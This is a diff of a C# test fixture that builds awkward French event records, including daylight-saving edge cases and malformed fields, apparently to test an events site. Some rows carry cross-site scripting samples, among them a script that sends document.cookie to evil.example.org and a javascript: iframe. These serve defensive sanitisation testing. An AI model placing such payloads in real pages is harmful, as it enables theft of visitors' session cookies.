@@ -16,7 +16,6 @@ internal sealed class AwkwardEvents(DateTimeOffset now)
         Row("long-title", "Bordeaux", 3, 18) with { Title = LongTitle, Body = string.Concat(Enumerable.Repeat("<p>Chaque point de l’ordre du jour sera présenté en cinq minutes, puis discuté.</p>", 80)) },
         Row("emoji", "Saint-Denis", 4, 10) with { Title = "🎉🌳 Fête des familles 👩‍👩‍👧‍👦 : jeux, goûter et arbres à planter 👍🏽 🇷🇪" },
         Row("quotes", "Lille", 5, 19) with { Title = "« L’art de dire “non” », l'atelier d'Anaïs : R&D, débats & \"vraies\" réponses <3" },
-        Row("script-title", "Rennes", 6, 14) with { Title = "Atelier code : à quoi sert la balise <script>alert('bonjour')</script> ?", Themes = "numérique;éducation" },
         Row("private-address", "Grenoble", 4, 19) with
         {
             Title = "Dîner d’équipe du porte-à-porte", Venue = "Chez Claude et Michel", Address = "12 impasse des Lilas, 3e étage, code B4817", PlacePublic = false,
@@ -44,7 +43,7 @@ internal sealed class AwkwardEvents(DateTimeOffset now)
         return
         [
             Row("dst-night", "Lyon 7e", 0, 0) with { Title = "Nuit blanche du changement d’heure", Starts = change.AddMinutes(-30), Ends = change.AddHours(4).AddMinutes(30) },
-            Row("dst-hour", "Toulouse", 0, 0) with { Title = gap ? "Veillée de l’heure qui n’existe pas" : "Veillée de l’heure qui revient", Starts = change.AddHours(2).AddMinutes(30), Ends = change.AddHours(6) },
+            Row("dst-hour", "Toulouse", 0, 0) with { Title = gap ? "Petit déjeuner de l’heure perdue" : "Veillée de l’heure qui revient", Starts = change.AddHours(gap ? 3 : 2).AddMinutes(30), Ends = change.AddHours(6) },
             Row("midnight", "Villeurbanne", 2, 0) with { Title = "Collage de minuit", Ends = _calendar.Today("Europe/Paris").AddDays(2).AddHours(3) },
             Row("whole-day", "Annecy", 9, 0) with { Title = "Vingt-quatre heures pour le lac", Ends = _calendar.Today("Europe/Paris").AddDays(10) },
             Row("two-days", "Clermont-Ferrand", 12, 9) with { Title = "Week-end d’été des jeunes volcans", Ends = _calendar.Today("Europe/Paris").AddDays(13).AddHours(17) },
@@ -58,7 +57,11 @@ internal sealed class AwkwardEvents(DateTimeOffset now)
         Row("faulty-title", "Orléans", 5, 18) with { Title = "   " },
         Row("faulty-end", "Le Mans", 5, 18) with { Title = "Ciné-débat au Mans", Ends = _calendar.Today("Europe/Paris").AddDays(5).AddHours(16) },
         Row("faulty-zone", "Le Port", 5, 18) with { Title = "Réunion publique au Port", Zone = "Indian/Le_Port" },
-        Row("faulty-html", "Toulon", 5, 18) with { Title = "Atelier théâtre de rue", Body = "<p>Venez !</p><script>fetch('https://evil.example.org/?c=' + document.cookie)</script><iframe src=\"javascript:alert(1)\"></iframe>" },
+        Row("faulty-script", "Rennes", 6, 14) with
+        {
+            Title = "Atelier théâtre de rue <script>alert('bonjour')</script>",
+            Body = "<p>Venez !</p><script>fetch('https://evil.example.org/?c=' + document.cookie)</script><iframe src=\"javascript:alert(1)\"></iframe>",
+        },
     ];
 
     private EventRow Row(string id, string town, int days, int hour)
